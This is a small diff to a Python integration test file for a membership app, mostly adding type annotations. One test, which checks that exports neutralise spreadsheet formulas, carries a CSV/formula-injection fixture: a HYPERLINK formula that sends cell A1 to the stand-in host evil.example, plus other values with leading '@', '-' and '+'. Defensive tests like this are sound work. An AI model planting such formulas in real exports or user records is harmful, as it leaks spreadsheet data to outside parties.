@@ -11,6 +11,7 @@ import sys
 import uuid
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
 from sqlalchemy import text
@@ -23,7 +24,7 @@ from lianka.tenants.services.programme import set_programme
 pytestmark = pytest.mark.integration
 PROGRAMME = Programme(points=PointsConfig(),
                       tiers=[Tier(code="regular", name="普通", rank=0),
-                             Tier(code="silver", name="银卡", rank=1, threshold=50_000)],  # type: ignore[arg-type]
+                             Tier(code="silver", name="银卡", rank=1, threshold=50_000)],
                       stored_value=StoredValueConfig(plans=[StoredValuePlan(code="500", name="储值500", pay=50_000,
                                                                             get=55_000)]))
 
@@ -204,7 +205,7 @@ async def test_full_export_is_permissioned_and_logged(client, shop, member_facto
 async def test_the_export_neutralises_spreadsheet_formulas(client, shop, member_factory) -> None:
     tenant, _, _, owner = shop
     m = await member_factory(tenant, "+8613966667777")
-    hostile = {"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "tags": ["@SUM(A1:A9)", "vip"],
+    hostile: dict[str, Any] = {"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "tags": ["@SUM(A1:A9)", "vip"],
                "email": "-2+3@example.com", "address": "+1 dial"}
     r = await client.patch(f"/api/v1/members/{m}/profile", json=hostile, headers=owner)
     assert r.status_code == 200, r.text
